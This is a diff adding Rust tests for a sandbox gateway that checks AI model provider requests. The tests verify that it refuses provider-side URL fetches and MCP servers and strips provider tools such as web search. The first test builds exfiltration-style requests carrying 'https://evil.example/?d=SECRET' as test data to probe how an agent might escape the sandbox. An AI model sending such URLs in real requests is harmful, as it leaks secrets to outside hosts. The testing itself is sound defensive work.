@@ -1,0 +1,136 @@
+//! The provider is no way out: it does nothing outside of the sandbox that the run does not allow.
+
+use ralph_core::net::ProviderTool;
+use ralph_core::secret::Secret;
+use ralph_gate::{Gate, Listener, Route};
+use serde_json::{Value, json};
+
+use crate::support::{Heard, World, ask, body, header, status};
+
+const ANSWER: &str =
+    "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 2\r\n\r\n{}";
+
+/// A gate with a credential of each wire, and what their providers hear.
+async fn providers(allowed: &[ProviderTool]) -> (World, Gate, Heard) {
+    let mut world = World::new();
+    world.provider_tools = allowed.iter().copied().collect();
+    let heard = world
+        .tls_host("models.example:443", "models.example", ANSWER)
+        .await;
+    let secret = || Secret::new("sk-real-0123456789".to_owned());
+    let url = "https://models.example";
+    world.routes = vec![
+        Route::anthropic_compatible("anthropic", url, secret()).unwrap(),
+        Route::openai_compatible("openai", url, secret()).unwrap(),
+    ];
+    let (gate, _) = world.gate();
+    (world, gate, heard)
+}
+
+/// Sends a request to a model with the stand-in of its credential.
+async fn post(gate: &Gate, path: &str, request: &Value) -> String {
+    let name = path.split('/').nth(1).unwrap();
+    let mut routes = gate.routes().iter();
+    let phantom = routes.find(|route| route.name() == name).unwrap().phantom();
+    let text = request.to_string();
+    let request = format!(
+        "POST {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {}\r\nContent-Length: {}\r\n\
+         Connection: close\r\n\r\n{text}",
+        phantom.as_str(),
+        text.len()
+    );
+    ask(gate, Listener::Credentials, request).await
+}
+
+fn image(url: &str) -> Value {
+    json!({"model": "m", "max_tokens": 1, "messages": [{"role": "user", "content": [
+        {"type": "tool_result", "tool_use_id": "1", "content": [
+            {"type": "image", "source": {"type": "url", "url": url}},
+        ]},
+    ]}]})
+}
+
+#[tokio::test]
+async fn no_wire_makes_the_provider_fetch_a_secret_for_somebody() {
+    let (world, gate, heard) = providers(&[]).await;
+    let url = "https://evil.example/?d=SECRET";
+    let chat = json!({"model": "m", "messages": [{"role": "user", "content": [
+        {"type": "image_url", "image_url": {"url": url}},
+    ]}]});
+    let responses = json!({"model": "m", "input": [
+        {"type": "function_call_output", "call_id": "1", "output": [
+            {"type": "input_file", "file_url": url},
+        ]},
+    ]});
+    let servers =
+        json!({"model": "m", "messages": [], "mcp_servers": [{"type": "url", "url": url}]});
+    let tool = json!({"model": "m", "input": "x", "tools": [{"type": "mcp", "server_url": url}]});
+    for (path, request, kind) in [
+        ("/anthropic/v1/messages", image(url), "urls"),
+        ("/anthropic/v1/messages/count_tokens", image(url), "urls"),
+        ("/anthropic/v1/messages", servers, "mcp"),
+        ("/openai/v1/chat/completions", chat, "urls"),
+        ("/openai/v1/responses", responses.clone(), "urls"),
+        ("/openai/v1/responses/compact", responses, "urls"),
+        ("/openai/v1/responses", tool, "mcp"),
+    ] {
+        let answer = post(&gate, path, &request).await;
+        assert_eq!(status(&answer), 400, "{path}: {answer}");
+        assert_eq!(
+            header(&answer, "x-ralph-gate"),
+            Some("provider-tool"),
+            "{path}"
+        );
+        let error: Value = serde_json::from_str(body(&answer)).unwrap();
+        let message = error["error"]["message"].as_str().unwrap();
+        assert!(
+            message.contains(&format!("does not allow `{kind}`")),
+            "{message}"
+        );
+        assert!(!message.contains("SECRET"), "{message}");
+    }
+    assert_eq!(heard.text(), "", "the provider has heard nothing");
+    let audits = world.notes.audits.lock().unwrap();
+    let details: Vec<&str> = audits
+        .iter()
+        .filter_map(|it| it.detail.as_deref())
+        .collect();
+    assert_eq!(details[0], "refused a URL at `evil.example`");
+    assert!(audits.iter().all(|audit| !audit.decision.is_allowed()));
+}
+
+#[tokio::test]
+async fn a_tool_of_the_provider_is_taken_out_of_the_request_and_recorded() {
+    let (world, gate, heard) = providers(&[]).await;
+    let request = json!({"model": "m", "max_tokens": 1, "messages": [], "tools": [
+        {"type": "web_search_20250305", "name": "web_search"},
+        {"name": "Bash", "input_schema": {"type": "object"}},
+    ]});
+    for _ in 0..2 {
+        let answer = post(&gate, "/anthropic/v1/messages", &request).await;
+        assert_eq!(status(&answer), 200, "{answer}");
+    }
+    let sent = heard.text();
+    assert!(
+        !sent.contains("web_search") && sent.contains("Bash"),
+        "{sent}"
+    );
+    let decisions = world.notes.wait_for_decisions(4).await;
+    let removed = "credentials models.example:443 - provider-tool policy";
+    assert_eq!(decisions.iter().filter(|it| *it == removed).count(), 2);
+    let tools = world.notes.tools.lock().unwrap();
+    assert_eq!(tools.len(), 1, "it is announced once");
+    assert_eq!(tools[0].1.what, "the tool `web_search_20250305`");
+}
+
+#[tokio::test]
+async fn an_allowed_kind_passes_as_it_is_and_is_recorded() {
+    let (world, gate, heard) = providers(&[ProviderTool::Urls]).await;
+    let request = image("https://pictures.example/a.png");
+    let answer = post(&gate, "/anthropic/v1/messages", &request).await;
+    assert_eq!(status(&answer), 200, "{answer}");
+    assert!(heard.text().contains("https://pictures.example/a.png"));
+    let decisions = world.notes.wait_for_decisions(2).await;
+    let allowed = "credentials models.example:443 + provider-tool policy".to_owned();
+    assert!(decisions.contains(&allowed), "{decisions:?}");
+}
